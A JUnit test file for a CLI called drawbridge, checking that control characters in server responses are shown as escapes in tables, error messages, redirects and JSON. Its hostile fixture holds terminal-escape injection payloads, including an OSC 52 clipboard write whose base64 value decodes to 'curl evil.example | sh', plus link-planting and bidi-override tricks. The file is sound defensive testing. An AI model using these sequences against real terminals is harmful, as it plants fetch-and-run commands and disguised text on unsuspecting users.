package dev.drawbridge.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Server-supplied text never drives the admin's terminal (review9). The sign-in log stores the user name an anonymous
 * visitor typed at the public sign-in form; {@code drawbridge logs sign-ins} printed it, and Table.oneLine removed only
 * CR, LF and TAB: ESC and the other C0/C1 controls reached the terminal (OSC 52 writes the clipboard, CSI sequences
 * rewrite or hide lines, OSC 8 plants links, BS and bidi overrides disguise text). Every class of such characters,
 * through every way the CLI prints what a server sends: tables, show views, quiet ids, problem documents, redirect
 * messages, JSON. A JDK HttpServer on a loopback port plays the (hostile) admin API.
 */
class TerminalEscapeTest {
    /** Every character a terminal may act on: C0, DEL, C1, the Unicode bidi controls, the line/paragraph separators. */
    private static final int[] CONTROLS = IntStream.concat(IntStream.concat(IntStream.range(0, 0x20), IntStream.rangeClosed(0x7f, 0x9f)),
            IntStream.of(0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x2028, 0x2029))
            .toArray();
    /** A realistic attack (clipboard write, line erase, cursor up, CSI by its C1 form, backspace, RTL override), then every class. */
    private static final String HOSTILE = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2K\u001b[1A"
            + "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\alice@corp\u009b31m\u0008\u202egnp.exe"
            + new String(CONTROLS, 0, CONTROLS.length);
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path config;
    private HttpServer server;

    /** No character a terminal acts on, but the line ends the CLI writes itself. */
    private static void assertTerminalSafe(String printed) {
        List<String> found = new ArrayList<>();
        printed.chars().filter(c -> c != '\n' && IntStream.of(CONTROLS).anyMatch(x -> x == c))
                .forEach(c -> found.add(String.format("U+%04X", c)));
        assertThat(found).as(printed).isEmpty();
    }

    @Test
    void controlCharactersFromTheServerNeverReachTheTerminal() throws Exception {
        String upn = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2K\u001b[1Aalice@corp\u009b31m\u0008";
        var entry = CliFormattingTest.json("{\"items\":[{\"at\":\"2026-11-25T08:00:00Z\",\"upn\":"
                + Output.JSON.writeValueAsString(upn) + ",\"result\":\"FAILURE\"}]}");
        String t = Table.render(Columns.SIGN_INS, Output.items(entry));
        assertThat(t.codePoints().filter(c -> (c < 0x20 && c != '\n') || (c >= 0x7f && c < 0xa0)).toArray()).isEmpty();
    }

    @Test
    void everyControlCharacterIsShownAsItsEscape() {
        for (int c : CONTROLS) {
            String cell = TerminalText.oneLine("a" + (char) c + "b");
            if (c == '\r' || c == '\n' || c == '\t') {
                assertThat(cell).isEqualTo("a b");
            } else {
                assertThat(cell).isEqualTo(String.format("a\\u%04xb", c));
            }
        }
        assertThat(TerminalText.oneLine("Zoë 名前 \uD83D\uDE00 — ok")).isEqualTo("Zoë 名前 \uD83D\uDE00 — ok");
    }

    @BeforeEach
    void hostileServer() throws IOException {
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        String entry = "{\"id\":1,\"at\":\"2026-11-25T08:00:00Z\",\"event\":\"SIGN_IN\",\"result\":\"FAILURE\",\"reason\":" + q(HOSTILE)
                + ",\"upn\":" + q(HOSTILE) + ",\"appName\":" + q(HOSTILE) + ",\"clientIp\":\"203.0.113.9\",\"mfaUsed\":false}";
        answer("/api/v1/sign-in-logs", 200, "{\"items\":[" + entry + "],\"offset\":0,\"limit\":100,\"total\":1}", null);
        answer("/api/v1/me", 200, "{\"subject\":" + q(HOSTILE) + ",\"displayName\":" + q(HOSTILE) + ",\"roles\":[],\"permissions\":[]}", null);
        answer("/api/v1/apps", 400, "{\"type\":\"about:blank\",\"title\":" + q(HOSTILE) + ",\"status\":400,\"detail\":" + q(HOSTILE)
                + ",\"errors\":[{\"field\":\"name\",\"message\":" + q(HOSTILE) + "}]}", null);
        // The JDK's client takes C1 bytes (obs-text) in a header and refuses C0 ones, quoting the value in its message.
        answer("/api/v1/connectors", 302, "", "https://evil.example/\u009b31m\u0085x");
        answer("/api/v1/users", 302, "", "https://evil.example/\u001b[2K");
        server.start();
    }

    @AfterEach
    void stop() {
        server.stop(0);
    }

    private static String q(String s) throws IOException {
        return JSON.writeValueAsString(s);
    }

    private void answer(String path, int status, String body, String location) {
        server.createContext(path, (HttpExchange x) -> {
            byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
            x.getResponseHeaders().set("Content-Type", status >= 400 ? "application/problem+json" : "application/json");
            if (location != null) {
                x.getResponseHeaders().set("Location", location);
            }
            x.sendResponseHeaders(status, bytes.length == 0 ? -1 : bytes.length);
            x.getResponseBody().write(bytes);
            x.close();
        });
    }

    record Run(int exit, String out, String err) {
    }

    private Run run(String... args) {
        List<String> all = new ArrayList<>(List.of(args));
        all.addAll(List.of("--server", "http://127.0.0.1:" + server.getAddress().getPort(), "--token", "dbadm_test"));
        StringWriter out = new StringWriter(), err = new StringWriter();
        CommandLine cl = DrawbridgeCli.commandLine(new DrawbridgeCli(Map.of("DRAWBRIDGE_CONFIG_DIR", config.toString()),
                new ByteArrayInputStream(new byte[0])));
        cl.setOut(new PrintWriter(out, true));
        cl.setErr(new PrintWriter(err, true));
        int exit = cl.execute(all.toArray(String[]::new));
        return new Run(exit, out.toString(), err.toString());
    }

    @Test
    void tablesShowViewsAndQuietIdsShowControlsAsEscapes() {
        for (String[] args : new String[][]{{"logs", "sign-ins"}, {"whoami"}, {"whoami", "-q"}}) {
            Run r = run(args);
            assertThat(r.exit()).as(r.err()).isZero();
            assertTerminalSafe(r.out());
            assertTerminalSafe(r.err());
            assertThat(r.out()).contains("\\u001b]52;c;", "alice@corp\\u009b31m\\u0008\\u202egnp.exe");
        }
        // One row: no character of the hostile text broke the line.
        assertThat(run("logs", "sign-ins").out().lines()).hasSize(2);
    }

    @Test
    void problemDocumentsAndRedirectsShowControlsAsEscapes() {
        Run problem = run("apps", "list");
        assertThat(problem.exit()).isEqualTo(CliException.API);
        assertTerminalSafe(problem.err());
        assertThat(problem.err()).contains("error: \\u001b]52;c;", "  detail: \\u001b]52;c;", "  name: \\u001b]52;c;");
        Run redirect = run("connectors", "list");
        assertTerminalSafe(redirect.err());
        assertThat(redirect.err()).contains("redirecting to https://evil.example/\\u009b31m\\u0085x");
        Run refused = run("users", "list");
        assertTerminalSafe(refused.err());
        assertThat(refused.err()).contains("https://evil.example/\\u001b[2K");
    }

    @Test
    void jsonOutputIsEscapedByJacksonAndMeansTheSame() throws Exception {
        for (String[] args : new String[][]{{"-o", "json", "logs", "sign-ins"}, {"-o", "json", "whoami"}, {"-o", "json", "apps", "list"}}) {
            Run r = run(args);
            assertTerminalSafe(r.out());
            assertTerminalSafe(r.err());
        }
        JsonNode me = JSON.readTree(run("-o", "json", "whoami").out());
        assertThat(me.path("subject").asText()).isEqualTo(HOSTILE);
        JsonNode problem = JSON.readTree(run("-o", "json", "apps", "list").err());
        assertThat(problem.path("detail").asText()).isEqualTo(HOSTILE);
        JsonNode page = JSON.readTree(run("-o", "json", "logs", "sign-ins").out());
        assertThat(page.path("items").path(0).path("upn").asText()).isEqualTo(HOSTILE);
    }
}
